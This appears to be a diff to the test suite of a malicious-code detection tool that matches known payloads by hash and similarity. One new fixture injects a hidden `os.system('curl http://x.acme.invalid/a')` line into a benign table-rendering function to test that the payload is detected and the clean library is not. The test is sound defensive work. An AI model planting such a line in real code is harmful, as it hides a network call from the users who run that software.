@@ -10,6 +10,8 @@ from pratique.known import index as indexes
 from pratique.known.build import build
 from pratique.known.index import Index, dump, find, key, kind_of, load
 from pratique.known.match import hits, matches
+from pratique.known.minhash import similarity
+from pratique.known.prints import fingerprint
 from pratique.known.sketch import Sketch, sketch
 from pratique.languages import front_end
 from pratique.link import Unit
@@ -38,6 +40,8 @@ def fold(lines, width):
     return out + [row.rstrip()]
 """
 SHA = "ab" * 32
+LINES = range(1, 100)
+"""All of a function is payload."""
 
 
 def unit(source: bytes, path: str = "a/x.py") -> Unit:
@@ -49,7 +53,7 @@ def unit(source: bytes, path: str = "a/x.py") -> Unit:
 
 
 def known(source: bytes = PAYLOAD + HELPER, payload: tuple[str, ...] = ("gather",), campaign: str = "c1") -> Index:
-    drawn = sketch(SHA, campaign, [unit(source)], {(("a/x.py",), name) for name in payload})
+    drawn = sketch(SHA, campaign, [unit(source)], {(("a/x.py",), name): LINES for name in payload})
 
     return build([drawn], dataset="a test", made="2026-01-01")
 
@@ -123,6 +127,38 @@ def test_a_function_that_is_nearly_the_same_is_found_with_its_likeness():
     assert "function" not in found
 
 
+LIBRARY = b"""
+def render(rows, width=80, fill=" "):
+    out = []
+    for number, row in enumerate(rows):
+        cells = [str(cell).ljust(width // max(1, len(row)), fill) for cell in row]
+        if any(len(cell) > width for cell in cells):
+            cells = [cell[:width] for cell in cells]
+        out.append("".join(cells).rstrip())
+        if number % 50 == 49:
+            out.append("-" * width)
+    return "\\n".join(out)
+"""
+
+
+def test_a_library_is_not_like_the_payload_that_was_put_into_its_copy():
+    """Nine tenths of the function are honest: likeness wants the payload's own lines."""
+    hijacked = LIBRARY.replace(
+        b"    out = []\n", b"    out = []\n    __import__('os').system('curl http://x.acme.invalid/a')\n"
+    )
+    drawn = sketch(SHA, "c", [unit(hijacked)], {(("a/x.py",), "render"): {4}})
+    index = build([drawn], dataset="", made="")
+    next_one = hijacked.replace(b"50 == 49", b"60 == 59")
+
+    assert similarity(*(printed_one(text).signature for text in (hijacked, LIBRARY))) > 0.8
+    assert "function-like" not in seen(index, LIBRARY)
+    assert seen(index, next_one)["function-like"] > 0.8
+
+
+def printed_one(source: bytes):
+    return fingerprint(unit(source).facts, frozenset({"a"})).functions[-1]
+
+
 def test_the_same_artifact_is_found_by_its_hash_alone():
     assert seen(known(), b"", SHA) == {"artifact": 1.0}
 
@@ -148,15 +184,15 @@ def test_what_benign_code_has_is_taken_out():
 
 
 def test_a_key_belongs_to_the_first_sample_that_has_it():
-    first = sketch(SHA, "early", [unit(PAYLOAD)], {(("a/x.py",), "gather")})
-    second = sketch("ba" * 32, "late", [unit(PAYLOAD)], {(("a/x.py",), "gather")})
+    first = sketch(SHA, "early", [unit(PAYLOAD)], {(("a/x.py",), "gather"): LINES})
+    second = sketch("ba" * 32, "late", [unit(PAYLOAD)], {(("a/x.py",), "gather"): LINES})
     index = build([first, second], dataset="", made="")
 
     assert {one.campaign for one in matches(index, "", [unit(PAYLOAD, "z.py")], Evidence())} == {"early"}
 
 
 def test_a_sketch_without_payload_knows_the_artifact_only():
-    drawn = sketch(SHA, "c", [unit(PAYLOAD)], ())
+    drawn = sketch(SHA, "c", [unit(PAYLOAD)], {})
 
     assert drawn == Sketch(sha256=SHA, campaign="c", keys=(key("artifact", bytes.fromhex(SHA)),), codes=())
 
